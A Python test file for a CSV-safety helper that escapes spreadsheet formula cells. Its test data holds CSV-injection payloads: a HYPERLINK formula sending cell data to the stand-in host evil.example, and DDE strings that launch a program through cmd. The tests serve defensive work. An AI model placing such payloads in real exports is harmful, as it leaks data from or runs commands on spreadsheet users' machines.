"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import pytest

from provenance.csv_safety import safe_cell, safe_row


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
    ],
)
def test_formula_strings_get_a_quote(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", [-3, -0.25, 1.5, None, "", "Caribbean", "CC-BY-SA-3.0", "-0.125", "+3e-4", "62.300"]
)
def test_other_cells_unchanged(cell: object) -> None:
    assert safe_cell(cell) == cell


def test_safe_row_keeps_keys() -> None:
    assert safe_row({"title": "=1+1", "minutes": -1.0}) == {"title": "'=1+1", "minutes": -1.0}
